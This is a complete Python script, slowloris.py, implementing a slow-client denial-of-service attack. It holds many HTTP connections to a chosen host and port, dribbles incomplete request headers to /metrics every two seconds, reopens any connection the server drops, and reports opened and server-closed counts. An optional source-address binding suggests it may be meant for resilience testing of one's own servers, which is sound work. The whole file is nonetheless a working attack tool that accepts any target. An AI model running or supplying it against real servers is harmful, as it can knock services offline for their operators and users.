#!/usr/bin/env python3
"""slowloris.py HOST PORT CONNECTIONS SECONDS [SOURCE]

Holds CONNECTIONS connections to an HTTP face for SECONDS, each sending a
request's header a few bytes at a time (one line every 2 s, never the
blank line that ends it), and opens a new one whenever one is closed: the
slow-client attack that locks out servers that wait for whole requests.
SOURCE binds the connections to that local address (to tell the attacker
from the legitimate clients by address).  Prints, at the end, how many
connections it opened and how many the server closed.
"""
import selectors
import socket
import sys
import time


def main():
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    source = sys.argv[5] if len(sys.argv) > 5 else None
    sel = selectors.DefaultSelector()
    opened = closed = 0
    conns = {}

    def connect():
        nonlocal opened
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
        try:
            if source:
                s.bind((source, 0))
            s.setblocking(False)
            s.connect_ex((host, port))
            sel.register(s, selectors.EVENT_READ)
            conns[s] = 0
            opened += 1
            return s
        except OSError:
            s.close()
            return None

    for _ in range(count):
        connect()
    end = time.monotonic() + seconds
    next_dribble = time.monotonic()
    while time.monotonic() < end:
        for key, _ in sel.select(timeout=0.2):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:  # the server closed it: come back
                sel.unregister(s)
                s.close()
                del conns[s]
                closed += 1
                connect()
        if time.monotonic() >= next_dribble:
            next_dribble = time.monotonic() + 2
            for s in list(conns):
                line = b"GET /metrics HTTP/1.1\r\nHost: x\r\n" if conns[s] == 0 else b"X-a: b\r\n"
                try:
                    s.send(line)
                    conns[s] += 1
                except OSError:
                    pass
    for s in conns:
        s.close()
    print(f"opened {opened} closed_by_server {closed}")


if __name__ == "__main__":
    main()
